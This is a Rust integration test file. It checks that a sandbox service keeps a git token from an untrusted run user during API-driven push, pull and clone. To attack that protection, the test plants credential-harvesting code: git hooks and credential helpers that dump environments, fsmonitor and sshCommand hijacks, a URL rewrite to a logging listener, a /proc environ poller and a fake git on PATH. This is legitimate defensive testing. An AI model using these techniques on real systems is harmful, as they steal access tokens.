//! A hostile run against the git token: the run user plants a `pre-push`
//! hook, credential helpers and an fsmonitor in its repository's config,
//! points a URL rewrite at a listener of its own, and polls every
//! process's environment and command line while the API pushes and pulls
//! with the workspace source's token. None of it sees the token, and the
//! push and the pull still reach the origin, which demands it. Real server
//! with tokens, real Docker (Debian image with git and python3); the
//! origin is `git http-backend` behind a small Basic-auth server inside the
//! sandbox, as root, on the container's loopback.
//!
//! And the clone at provisioning, against a run user whose own `git` and
//! poller watch while sandboxes clone from such an origin (local provider,
//! with a run user).

use std::time::Duration;

use sandhold_tests::docker::{self, DEBIAN_IMAGE, DockerCleanup, LABEL_TENANT};
use sandhold_tests::run::put_definition;
use sandhold_tests::sandbox::{ensure, sh};
use sandhold_tests::server::TenantServer;
use shared::proto::v1 as api;

/// The Docker provider's default run user.
const RUN_USER: &str = "10001:10001";
const TOKEN: &str = "ghs-hostile-7f3a91c2d4";
const PORT: u16 = 8417;

/// A git smart-HTTP origin for `ROOT/git/*.git` that answers only requests
/// whose Basic password is the token in `ROOT/token` (both root's). Its
/// arguments: the port, then optionally ROOT (default `/srv`) and how many
/// seconds each answer waits (default none: a slow origin keeps a transfer
/// running long enough for a poller to see it).
const ORIGIN_SERVER: &str = r#"
import base64, subprocess, sys, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
ROOT = sys.argv[2] if len(sys.argv) > 2 else '/srv'
DELAY = float(sys.argv[3]) if len(sys.argv) > 3 else 0
TOKEN = open(ROOT + '/token').read().strip()
class Origin(BaseHTTPRequestHandler):
    def do_GET(self): self.git()
    def do_POST(self): self.git()
    def log_message(self, *args): pass
    def git(self):
        time.sleep(DELAY)
        auth = self.headers.get('Authorization', '')
        password = ''
        if auth.startswith('Basic '):
            password = base64.b64decode(auth[6:]).decode(errors='replace').partition(':')[2]
        if password != TOKEN:
            self.send_response(401)
            self.send_header('WWW-Authenticate', 'Basic realm="origin"')
            self.send_header('Content-Length', '0')
            self.end_headers()
            return
        path, _, query = self.path.partition('?')
        env = {'GIT_PROJECT_ROOT': ROOT + '/git', 'GIT_HTTP_EXPORT_ALL': '1', 'REQUEST_METHOD': self.command,
               'PATH_INFO': path, 'QUERY_STRING': query, 'REMOTE_USER': 'x-access-token',
               'REMOTE_ADDR': '127.0.0.1', 'CONTENT_TYPE': self.headers.get('Content-Type', ''),
               'PATH': '/usr/bin:/bin', 'GIT_PROTOCOL': self.headers.get('Git-Protocol', '')}
        if self.headers.get('Content-Encoding'):
            env['HTTP_CONTENT_ENCODING'] = self.headers['Content-Encoding']
        body = self.rfile.read(int(self.headers.get('Content-Length') or 0))
        out = subprocess.run(['git', 'http-backend'], input=body, env=env, capture_output=True).stdout
        head, _, rest = out.partition(b'\r\n\r\n')
        status, headers = 200, []
        for line in head.decode().split('\r\n'):
            key, _, value = line.partition(':')
            if key.lower() == 'status':
                status = int(value.split()[0])
            elif key:
                headers.append((key, value.strip()))
        self.send_response(status)
        for key, value in headers:
            self.send_header(key, value)
        self.send_header('Content-Length', str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), Origin).serve_forever()
"#;

/// What the run user plants in its clone: a `pre-push` hook, credential
/// helpers (for every URL and for the origin's), an fsmonitor, and a URL
/// rewrite of the origin to its own listener; each writes what it sees to
/// `/tmp/leaks`.
const PLANT: &str = r#"set -e
mkdir -p /tmp/leaks
cat > /tmp/leaks/dump <<'EOF'
#!/bin/sh
{ echo "== $0 $*"; env; timeout 2 cat 2>/dev/null; } >> /tmp/leaks/seen
EOF
chmod +x /tmp/leaks/dump
cp /tmp/leaks/dump .git/hooks/pre-push
cp /tmp/leaks/dump .git/hooks/post-merge
cp /tmp/leaks/dump .git/hooks/reference-transaction
git config --add credential.helper '!/tmp/leaks/dump'
git config --add credential.http://127.0.0.1.helper '!/tmp/leaks/dump'
git config core.fsmonitor /tmp/leaks/dump
git config core.sshCommand /tmp/leaks/dump
git config url.http://127.0.0.1:8418/.insteadOf http://127.0.0.1:8417/
git config url.http://127.0.0.1:8418/.pushInsteadOf http://127.0.0.1:8417/
"#;

/// A listener of the run user's on the rewritten URL: every request head
/// it is sent goes to `/tmp/leaks/seen`.
const LISTENER: &str = r#"
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 8418)); s.listen(16)
while True:
    c, _ = s.accept()
    data = c.recv(65536)
    open('/tmp/leaks/seen', 'ab').write(b'== listener\n' + data)
    c.sendall(b'HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm="x"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')
    c.close()
"#;

/// The run user polling every process it can see, all the time: any
/// environment or command line that reads is appended to `LEAKS/proc`;
/// `LEAKS/rounds` counts the rounds. LEAKS is its first argument, else
/// `/tmp/leaks`.
const POLLER: &str = r#"
L=${1:-/tmp/leaks}
while :; do
  for p in /proc/[0-9]*; do
    [ "$p" = /proc/$$ ] && continue
    e=$(tr '\0' '\n' < $p/environ 2>/dev/null) && printf '== %s environ\n%s\n' "$p" "$e" >> $L/proc.tmp
    c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) && printf '== %s cmdline %s\n' "$p" "$c" >> $L/proc.tmp
  done
  grep -a -e GIT -e git -e Authorization $L/proc.tmp >> $L/proc 2>/dev/null
  : > $L/proc.tmp
  echo . >> $L/rounds
done
"#;

fn docker_exec(container: &str, user: &str, detach: bool, args: &[&str]) -> String {
    let mut all = vec!["exec", "-u", user];
    if detach {
        all.push("-d");
    }
    all.push(container);
    all.extend(args);
    let out = std::process::Command::new("docker").args(&all).output().expect("docker exec");
    assert!(out.status.success(), "docker {all:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `sh -c script` in the container as root, its stdout.
fn as_root(container: &str, script: &str) -> String {
    docker_exec(container, "0", false, &["sh", "-c", script])
}

fn debian(id: &str, source: Option<&str>) -> api::SandboxDefinition {
    let docker = api::DockerProvider { image: DEBIAN_IMAGE.into(), ..Default::default() };
    let source = source.map(|url| api::Source {
        source: Some(api::source::Source::Git(api::GitSource {
            url: url.into(),
            auth_secret: "GIT_TOKEN".into(),
            ..Default::default()
        })),
    });
    api::SandboxDefinition {
        id: id.into(),
        provider: Some(api::ProviderSpec { provider: Some(api::provider_spec::Provider::Docker(docker)) }),
        secret_names: source.iter().map(|_| "GIT_TOKEN".to_string()).collect(),
        workspace: source.map(|s| api::WorkspaceDefinition { source: Some(s), ..Default::default() }),
        ..Default::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_git_token_reaches_the_origin_and_nothing_of_the_run_user() {
    if !sandhold_tests::services::docker() {
        return;
    }
    docker::ensure_debian_image();
    let s = TenantServer::start("git-hostile", &[]).await;
    let _cleanup = DockerCleanup { tenant: s.tenant.clone() };
    let mut sandboxes = s.server.sandboxes(&s.token).await;
    // The origin has to live in the sandbox (it has no network), so the
    // sandbox comes first and the definition names the origin after; the
    // token comes with each call.
    put_definition(&mut sandboxes, debian("git", None)).await;
    let req = api::EnsureSandboxRequest {
        definition_id: "git".into(),
        thread_id: "git".into(),
        ..Default::default()
    };
    let token = || [("GIT_TOKEN".to_string(), TOKEN.to_string())].into_iter().collect();
    let sandbox = ensure(&mut sandboxes, req).await.1.unwrap_or_else(|e| panic!("{e}")).sandbox_id;
    let container =
        docker::running(&format!("{LABEL_TENANT}={}", s.tenant)).pop().expect("the sandbox's container");
    let url = format!("http://127.0.0.1:{PORT}/origin.git");
    // The origin, root's: its token file and repository closed to the
    // run user; the run user's clone of it, made without the token.
    as_root(
        &container,
        &format!(
            "set -e; umask 077; mkdir -p /srv/git; printf %s '{TOKEN}' > /srv/token; \
                 git init -q --bare -b main /srv/git/origin.git; \
                 git clone -q /srv/git/origin.git /root/seed; cd /root/seed; echo one > app.txt; git add .; \
                 git -c user.name=o -c user.email=o@example.com commit -qm first; git push -q origin HEAD:main; \
                 umask 022; git clone -q /srv/git/origin.git /workspace/repo; \
                 git -C /workspace/repo remote set-url origin {url}; chown -R {RUN_USER} /workspace/repo"
        ),
    );
    docker_exec(&container, "0", true, &["python3", "-c", ORIGIN_SERVER, &PORT.to_string()]);
    as_root(
        &container,
        &format!(
            "for i in $(seq 50); do python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {PORT}))' 2>/dev/null && exit 0; sleep 0.2; done; exit 1"
        ),
    );
    let (code, out) = sh(
        &mut sandboxes,
        &sandbox,
        "cd repo && git config user.name r && git config user.email r@example.com",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    put_definition(&mut sandboxes, debian("git", Some(&url))).await;

    let (code, out) = sh(&mut sandboxes, &sandbox, &format!("cd repo && {PLANT}")).await;
    assert_eq!(code, 0, "{out}");
    docker_exec(&container, RUN_USER, true, &["python3", "-c", LISTENER]);
    docker_exec(&container, RUN_USER, true, &["sh", "-c", POLLER]);
    let rounds = |out: &str| out.lines().filter(|l| *l == ".").count();
    let mut polled = 0;
    for _ in 0..100 {
        polled = rounds(&sh(&mut sandboxes, &sandbox, "cat /tmp/leaks/rounds 2>/dev/null").await.1);
        if polled > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(polled > 0, "the poller never went round");

    // A commit by the run, pushed by the API.
    let (code, out) = sh(
        &mut sandboxes,
        &sandbox,
        "cd repo && echo two > app.txt && git commit -qam second && git rev-parse HEAD",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    let commit = out.trim().to_string();
    let pushed = sandboxes
        .git_push(api::GitPushRequest {
            sandbox_id: sandbox.clone(),
            path: "repo".into(),
            secrets: token(),
            ..Default::default()
        })
        .await
        .unwrap_or_else(|e| panic!("push: {e:?}\n{}", s.server.log_text()))
        .into_inner();
    assert_eq!((pushed.branch.as_str(), pushed.commit.as_str()), ("main", commit.as_str()));
    let at_origin = docker_exec(
        &container,
        "0",
        false,
        &["git", "--git-dir", "/srv/git/origin.git", "rev-parse", "main"],
    );
    assert_eq!(at_origin.trim(), commit, "the push reached the origin");

    // A commit at the origin, pulled by the API.
    let theirs = as_root(
        &container,
        "set -e; cd /root/seed; git pull -q origin main; echo three > app.txt; \
             git -c user.name=o -c user.email=o@example.com commit -qam third; git push -q origin HEAD:main; git rev-parse HEAD",
    );
    let pulled = sandboxes
        .git_pull(api::GitPullRequest {
            sandbox_id: sandbox.clone(),
            path: "repo".into(),
            secrets: token(),
            ..Default::default()
        })
        .await
        .unwrap_or_else(|e| panic!("pull: {e:?}\n{}", s.server.log_text()))
        .into_inner();
    assert_eq!((pulled.before.as_str(), pulled.after.as_str()), (commit.as_str(), theirs.trim()));
    let (_, file) = sh(&mut sandboxes, &sandbox, "cat repo/app.txt; git -C repo status --porcelain").await;
    assert_eq!(file, "three\n", "the pull left the work tree at the origin's commit, clean");

    // The poller kept going through both transfers.
    let after = rounds(&sh(&mut sandboxes, &sandbox, "cat /tmp/leaks/rounds").await.1);
    assert!(after > polled, "the poller stopped ({polled} then {after} rounds)");
    let (_, leaks) = sh(&mut sandboxes, &sandbox, "cat /tmp/leaks/seen /tmp/leaks/proc 2>/dev/null").await;
    let encoded = "eC1hY2Nlc3MtdG9rZW46Z2hzLWhvc3RpbGUtN2YzYTkxYzJkNA"; // base64 of x-access-token:TOKEN
    assert!(!leaks.contains(TOKEN) && !leaks.contains(encoded), "the run user saw the token:\n{leaks}");
}

/// The uid (and gid) the local sandboxes of the clone test run commands as.
const NOBODY: u32 = 65534;
/// The clone test's token.
const CLONE_TOKEN: &str = "ghs-clone-5c81e0b7a2";

/// The run user's `git`, first on its PATH (a tenant's image may well have
/// one): each call appends its arguments and environment to `LEAKS/seen`,
/// and the first leaves [`POLLER`] running for good; then the real git runs.
fn fake_git(leaks: &std::path::Path) -> String {
    format!(
        "#!/bin/sh\n\
         {{ echo \"== git $*\"; env; }} >> {leaks}/seen\n\
         if mkdir {leaks}/poller 2>/dev/null; then\n\
         \tsetsid sh {leaks}/poll.sh {leaks} </dev/null >/dev/null 2>&1 &\n\
         fi\n\
         exec /usr/bin/git \"$@\"\n",
        leaks = leaks.display()
    )
}

/// The origin the clone test serves: `git/origin.git` (main: app.txt v1,
/// v2, v3, an annotated tag `v1`; `other`: other.txt on top of v3) and
/// `git/skills.git` (a SKILL.md), with the token in `token`. The commits
/// of v1, v2 and v3.
fn clone_origin(dir: &std::path::Path) -> [String; 3] {
    use sandhold_tests::local::git;
    let work = dir.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    let mut commits = Vec::new();
    for v in 1..=3 {
        std::fs::write(work.join("app.txt"), format!("v{v}\n")).unwrap();
        git(&work, &["add", "."]);
        git(&work, &["commit", "-q", "-m", &format!("v{v}")]);
        commits.push(git(&work, &["rev-parse", "HEAD"]));
    }
    git(&work, &["tag", "-a", "v1", "-m", "v1", &commits[0]]);
    git(&work, &["checkout", "-q", "-b", "other"]);
    std::fs::write(work.join("other.txt"), "on other\n").unwrap();
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "other"]);
    git(&work, &["checkout", "-q", "main"]);
    std::fs::create_dir_all(dir.join("git")).unwrap();
    git(dir, &["clone", "-q", "--bare", "work", "git/origin.git"]);
    let skills = dir.join("skills");
    std::fs::create_dir_all(&skills).unwrap();
    git(&skills, &["init", "-q", "-b", "main"]);
    std::fs::write(skills.join("SKILL.md"), "---\nname: kit\n---\nthe kit\n").unwrap();
    git(&skills, &["add", "."]);
    git(&skills, &["commit", "-q", "-m", "kit"]);
    git(dir, &["clone", "-q", "--bare", "skills", "git/skills.git"]);
    std::fs::write(dir.join("token"), CLONE_TOKEN).unwrap();
    commits.try_into().unwrap()
}

/// A local sandbox whose agent (root, as the server is) runs every command
/// as uid 65534 with HOME `home`, `home/bin` first on the PATH; its source
/// `url` authenticates with the secret `GIT_TOKEN`.
fn cloning(id: &str, home: &std::path::Path, url: &str, source: api::GitSource) -> api::SandboxDefinition {
    let env = [
        ("PATH", format!("{}/bin:/usr/local/bin:/usr/bin:/bin", home.display())),
        ("SANDHOLD_AGENT_RUN_USER", format!("{NOBODY}:{NOBODY}")),
        ("SANDHOLD_AGENT_RUN_HOME", home.display().to_string()),
    ];
    let source = api::GitSource { url: url.into(), auth_secret: "GIT_TOKEN".into(), ..source };
    api::SandboxDefinition {
        id: id.into(),
        provider: Some(api::ProviderSpec {
            provider: Some(api::provider_spec::Provider::Local(api::LocalProvider {})),
        }),
        env: env.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
        secret_names: vec!["GIT_TOKEN".into()],
        workspace: Some(api::WorkspaceDefinition {
            source: Some(api::Source { source: Some(api::source::Source::Git(source)) }),
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// Put `def` and ensure it (its id as the thread) with `token` as
/// `GIT_TOKEN`: the sandbox's id.
async fn ensure_with_token(
    sandboxes: &mut sandhold_tests::server::Sandboxes,
    def: api::SandboxDefinition,
    token: &str,
) -> Result<String, tonic::Status> {
    let id = def.id.clone();
    put_definition(sandboxes, def).await;
    let req = api::EnsureSandboxRequest {
        definition_id: id.clone(),
        thread_id: id,
        secrets: [("GIT_TOKEN".to_string(), token.to_string())].into(),
        ..Default::default()
    };
    ensure(sandboxes, req).await.1.map(|r| r.sandbox_id)
}

/// The clone at provisioning, against a run user that watches: the run
/// user's own `git` (first on its PATH) records every call's environment
/// and leaves a poller of every `/proc/*/environ` and `/proc/*/cmdline`
/// running from its first call on, while sandboxes clone (shallow, full
/// history on a branch, a tag, a commit id, a git skill) from an origin on
/// loopback that demands the token. Every clone checks out the right
/// commit; the token is nowhere the run user could read. Local provider
/// (a definition's `env` is the local agent's own, so
/// `SANDHOLD_AGENT_RUN_USER` gives it a run user): the agent root, as the
/// server is, and every command uid 65534, as on Docker. The origin is `git
/// http-backend` behind Basic auth, root's, slowed down so that the poller
/// sees the transfers go by.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_clone_at_provisioning_keeps_the_git_token_from_the_run_user() {
    use base64::Engine;
    use sandhold_tests::local::{ChildGuard, TestDir};
    use std::os::unix::fs::PermissionsExt;
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: a run user needs the server (and so the local agent) to be root");
        return;
    }
    let s = TenantServer::start("git-clone", &[]).await;
    // The sandboxes' workspaces are reachable by the run user.
    let data = s.server.log.parent().unwrap();
    for dir in [data, data.parent().unwrap()] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o711)).unwrap();
    }
    let origin = TestDir::new("git-clone-origin");
    let commits = clone_origin(origin.path());
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let _origin_server = ChildGuard::new(
        std::process::Command::new("python3")
            .args(["-c", ORIGIN_SERVER, &port.to_string()])
            .arg(origin.path())
            .arg("0.4")
            .spawn()
            .expect("python3"),
    );
    let up = sandhold_tests::wait::eventually(Duration::from_secs(10), || {
        std::future::ready(std::net::TcpStream::connect(("127.0.0.1", port)).is_ok())
    })
    .await;
    assert!(up, "the origin did not start");

    let home = TestDir::new("git-clone-home");
    let leaks = home.path().join("leaks");
    std::fs::create_dir_all(home.path().join("bin")).unwrap();
    std::fs::create_dir_all(&leaks).unwrap();
    std::os::unix::fs::chown(&leaks, Some(NOBODY), Some(NOBODY)).unwrap();
    std::fs::write(leaks.join("poll.sh"), POLLER).unwrap();
    let git = home.path().join("bin/git");
    std::fs::write(&git, fake_git(&leaks)).unwrap();
    std::fs::set_permissions(&git, std::fs::Permissions::from_mode(0o755)).unwrap();

    let url = format!("http://127.0.0.1:{port}/origin.git");
    let mut sandboxes = s.server.sandboxes(&s.token).await;
    let clone = |id: &str, source: api::GitSource| cloning(id, home.path(), &url, source);
    // Shallow from the remote's HEAD, and a git skill beside it.
    let mut source = api::GitSource::default();
    let mut def = clone("shallow", source.clone());
    def.workspace.as_mut().unwrap().skills = vec![api::Skill {
        skill: Some(api::skill::Skill::Git(api::GitSkill {
            name: "kit".into(),
            url: format!("http://127.0.0.1:{port}/skills.git"),
            auth_secret: "GIT_TOKEN".into(),
            ..Default::default()
        })),
    }];
    let shallow = ensure_with_token(&mut sandboxes, def, CLONE_TOKEN)
        .await
        .unwrap_or_else(|e| panic!("shallow: {e:?}\n{}", s.server.log_text()));
    let (code, out) = sh(
        &mut sandboxes,
        &shallow,
        "id -u; git rev-parse HEAD; git rev-parse --abbrev-ref HEAD @{u}; git rev-list --count HEAD; \
         cat app.txt; git status --porcelain -uno; git remote get-url origin; cat .sandhold/skills/kit/SKILL.md",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(
        out,
        format!("{NOBODY}\n{}\nmain\norigin/main\n1\nv3\n{url}\n---\nname: kit\n---\nthe kit\n", commits[2])
    );

    // The full history, on a branch.
    source.history = Some(api::git_source::History::Full(true));
    source.r#ref = "other".into();
    let full = ensure_with_token(&mut sandboxes, clone("full", source), CLONE_TOKEN)
        .await
        .unwrap_or_else(|e| panic!("full: {e:?}"));
    let (code, out) = sh(
        &mut sandboxes,
        &full,
        "git rev-parse --abbrev-ref HEAD @{u}; git rev-list --count HEAD; git branch -r; git tag; cat other.txt",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.starts_with("other\norigin/other\n4\n"), "{out}");
    assert!(out.contains("origin/main") && out.ends_with("v1\non other\n"), "{out}");

    // A tag, and a commit id two deep: detached there.
    let tag = api::GitSource { r#ref: "v1".into(), ..Default::default() };
    let tag = ensure_with_token(&mut sandboxes, clone("tag", tag), CLONE_TOKEN)
        .await
        .unwrap_or_else(|e| panic!("tag: {e:?}"));
    let (code, out) =
        sh(&mut sandboxes, &tag, "git rev-parse HEAD; cat app.txt; git symbolic-ref -q HEAD").await;
    assert_eq!((code, out), (1, format!("{}\nv1\n", commits[0])), "detached at the tag");
    let commit = api::GitSource {
        r#ref: commits[1].clone(),
        history: Some(api::git_source::History::Depth(2)),
        ..Default::default()
    };
    let commit = ensure_with_token(&mut sandboxes, clone("commit", commit), CLONE_TOKEN)
        .await
        .unwrap_or_else(|e| panic!("commit: {e:?}"));
    let (code, out) =
        sh(&mut sandboxes, &commit, "git rev-parse HEAD; git rev-list --count HEAD; git status --porcelain")
            .await;
    assert_eq!((code, out), (0, format!("{}\n2\n", commits[1])));

    // A token the origin refuses: the clone fails naming the URL and git's
    // error, without the token.
    let wrong = "ghs-wrong-0d9e44";
    let err = ensure_with_token(&mut sandboxes, clone("wrong", api::GitSource::default()), wrong)
        .await
        .expect_err("a refused token");
    assert_eq!(err.code(), tonic::Code::FailedPrecondition, "{err:?}");
    assert!(err.message().contains(&url) && err.message().contains("fatal:"), "{err:?}");
    assert!(!err.message().contains(wrong), "{err:?}");

    let read = |name: &str| {
        String::from_utf8_lossy(&std::fs::read(leaks.join(name)).unwrap_or_default()).into_owned()
    };
    let seen = read("seen");
    assert!(seen.contains("== git init"), "the run user's git made the repositories:\n{seen}");
    let rounds = read("rounds").lines().count();
    assert!(rounds > 0, "the poller never went round");
    let proc = read("proc");
    let leaks = format!("{seen}\n{proc}");
    for token in [CLONE_TOKEN, wrong] {
        let encoded = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{token}"));
        assert!(
            !leaks.contains(token) && !leaks.contains(encoded.trim_end_matches('=')),
            "the run user saw the token {token}:\n{leaks}"
        );
    }
    assert!(
        proc.lines().any(|l| l.contains(" cmdline ") && l.contains("remote-http") && l.contains(&url)),
        "the poller saw no transfer go by ({rounds} rounds):\n{proc}"
    );
}
